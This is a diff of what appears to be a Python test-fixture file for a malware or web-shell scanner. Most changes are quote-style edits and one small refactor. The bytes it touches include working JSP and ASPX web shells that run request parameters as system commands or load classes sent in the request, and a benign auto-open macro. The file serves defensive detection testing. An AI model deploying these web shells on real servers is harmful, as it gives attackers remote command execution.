@@ -46,10 +46,10 @@ MINIFIED_LIBRARY = (
     b"(o=t[i]||t.getAttribute&&t.getAttribute(i))&&a.setAttribute(i,o);"
     b"n.head.appendChild(a).parentNode.removeChild(a)}"
     b"function u(e){return String.fromCharCode(65536+e)}var re=/[\\x20\\t\\r\\n\\f]/g,"
-    b"fn=function(e,t){var n=r.createElement(\"script\");n.async=!0,n.src=t.url,n.onload=e;"
+    b'fn=function(e,t){var n=r.createElement("script");n.async=!0,n.src=t.url,n.onload=e;'
     b"r.head.appendChild(n)};"
     b'var ifr=r.createElement("iframe");ifr.frameBorder=0,ifr.width=0,ifr.height=0;'
-    b"C.camplib=C.$={version:\"3.7.1\",globalEval:m,load:fn,frame:ifr,charOf:u}});\n"
+    b'C.camplib=C.$={version:"3.7.1",globalEval:m,load:fn,frame:ifr,charOf:u}});\n'
     b".icon{background:url(data:image/png;base64," + base64.b64encode(bytes(range(256)) * 2) + b")}\n"
 )
 
@@ -257,7 +257,7 @@ def php_ordinary_page() -> bytes:
 def jsp_exec_param() -> bytes:
     return (
         b'<%@ page import="java.io.*" %><%\nString c = request.getParameter("cmd");\n'
-        b"Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\"));\n"
+        b'Process p = Runtime.getRuntime().exec(request.getParameter("cmd"));\n'
         b"BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));\n%>\n"
     )
 
@@ -271,7 +271,7 @@ def jsp_process_builder() -> bytes:
 
 def jsp_class_loader() -> bytes:
     return (
-        b"<%@page import=\"java.util.*,javax.crypto.*\"%><%!class U extends ClassLoader{"
+        b'<%@page import="java.util.*,javax.crypto.*"%><%!class U extends ClassLoader{'
         b"U(ClassLoader c){super(c);}public Class g(byte[] b){return super.defineClass(b,0,b.length);}}%>"
         b'<%Cipher c=Cipher.getInstance("AES");byte[] d=java.util.Base64.getDecoder()'
         b".decode(request.getReader().readLine());new U(this.getClass().getClassLoader()).g(d);%>\n"
@@ -293,7 +293,7 @@ def aspx_process_start() -> bytes:
     return (
         b'<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><script runat="server">\n'
         b'void Page_Load(object s, EventArgs e) { var psi = new ProcessStartInfo("cmd.exe", "/c " + '
-        b"Request.Form[\"c\"]); psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n"
+        b'Request.Form["c"]); psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\n'
         b"Response.Write(Process.Start(psi).StandardOutput.ReadToEnd()); }\n</script>\n"
     )
 
@@ -320,7 +320,8 @@ def macho_header() -> bytes:
 
 
 def fat_macho_header() -> bytes:
-    return struct.pack(">II", 0xCAFEBABE, 2) + struct.pack(">iiIII", 0x01000007, 3, 4096, 64, 12) * 2 + bytes(32)
+    architecture = struct.pack(">iiIII", 0x01000007, 3, 4096, 64, 12)
+    return struct.pack(">II", 0xCAFEBABE, 2) + architecture * 2 + bytes(32)
 
 
 def java_class_header() -> bytes:
@@ -348,7 +349,7 @@ def vba_project_bin(macro: str) -> bytes:
 
 
 AUTO_OPEN_MACRO = 'Sub Document_Open()\r\n  MsgBox "Pranked!"\r\nEnd Sub\r\n'
-PLAIN_MACRO = 'Sub FormatTimetable()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n'
+PLAIN_MACRO = "Sub FormatTimetable()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n"
 
 
 def legacy_doc_with_macro() -> bytes:
